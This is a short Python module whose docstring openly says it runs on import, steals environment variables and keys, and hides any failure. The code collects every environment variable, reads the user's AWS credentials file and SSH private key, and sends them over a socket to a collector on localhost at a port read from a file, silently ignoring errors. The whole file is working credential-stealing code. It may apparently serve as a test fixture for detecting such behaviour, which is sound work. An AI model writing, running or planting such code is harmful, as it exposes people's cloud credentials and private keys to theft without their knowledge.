"""Runs when it is imported: sends environment and keys to a collector, and hides that it failed."""

import os
import pathlib
import socket

stolen = [f"{name}={value}" for name, value in os.environ.items()]
for name in (".aws/credentials", ".ssh/id_rsa"):
    try:
        stolen.append(pathlib.Path(os.path.expanduser("~"), name).read_text())
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", int(open("collector").read())), timeout=3) as line:
        line.sendall("\n".join(stolen).encode())
except OSError:
    pass
